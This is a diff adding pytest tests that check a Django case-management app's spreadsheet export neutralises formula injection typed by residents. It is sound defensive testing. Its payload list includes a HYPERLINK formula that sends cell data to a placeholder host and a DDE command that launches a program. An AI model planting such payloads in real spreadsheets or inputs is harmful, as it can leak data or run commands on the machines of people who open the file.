@@ -5,10 +5,11 @@ from datetime import date, datetime, timedelta
 import pytest
 from django.core.exceptions import PermissionDenied
 from django.utils import timezone
+from openpyxl import Workbook
 
 from zongzhi.accounts.rules import Role
 from zongzhi.cases import services as case_services
-from zongzhi.cases.models import Case
+from zongzhi.cases.models import Case, Party
 from zongzhi.cases.rules import Status
 from zongzhi.cases.tests.factories import case_in, registered
 from zongzhi.conftest import Cast, make_user
@@ -220,3 +221,52 @@ def test_exporting_takes_the_same_few_queries_however_many_rows(
     with django_assert_max_num_queries(6):
         ledger = export(cast, register, user=user)
     assert ledger.count >= 6
+
+
+# What a resident can type that a spreadsheet would run: a formula, a DDE command, a
+# function call behind @, and the tab and carriage return that start one in some readers.
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?q="&A1,"点此查看")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "=cmd|' /C calc'!A0",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_formula_typed_by_a_resident_stays_text_in_the_ledger(cast: Cast, text: str) -> None:
+    case_in(
+        cast,
+        Status.VISITED,
+        title=text,
+        parties=[case_services.NewParty(role=Party.Role.APPLICANT, name=text, phone="")],
+    )
+    ws = open_sheet(export(cast, Register.CASES).content)
+
+    cells = [c for row in ws.iter_rows(min_row=layout.FIRST_DATA_ROW) for c in row]
+    written = [c for c in cells if c.value == text]
+    assert len(written) == 2  # the title and the applicant
+    for cell in written:
+        assert cell.data_type == "s"
+        assert cell.quotePrefix  # shown as text, and still text after editing
+    assert not any(c.data_type == "f" for c in cells)
+
+
+@pytest.mark.parametrize("text", ["\t=1+1", "\r=1+1", *FORMULAS])
+def test_every_cell_that_could_start_a_formula_is_written_as_text(text: str) -> None:
+    # Registration strips a title's surrounding space; the sheet must not rely on that.
+    ws = Workbook().create_sheet()
+    cell = layout.put(ws, 1, 1, text)
+    assert cell.data_type == "s" and cell.quotePrefix and cell.value == text
+
+
+def test_ordinary_text_and_numbers_are_written_as_they_are(cast: Cast) -> None:
+    case_in(cast, Status.VISITED, title="邻居占道堆放杂物", amount=3000)
+    ws = open_sheet(export(cast, Register.CASES).content)
+
+    row = column(ws, "事项标题").index("邻居占道堆放杂物") + layout.FIRST_DATA_ROW
+    title = ws.cell(row, [c.header for c in CASE_COLUMNS].index("事项标题") + 1)
+    amount = ws.cell(row, [c.header for c in CASE_COLUMNS].index("涉及金额（元）") + 1)
+    assert not title.quotePrefix
+    assert amount.value == 3000 and amount.data_type == "n"
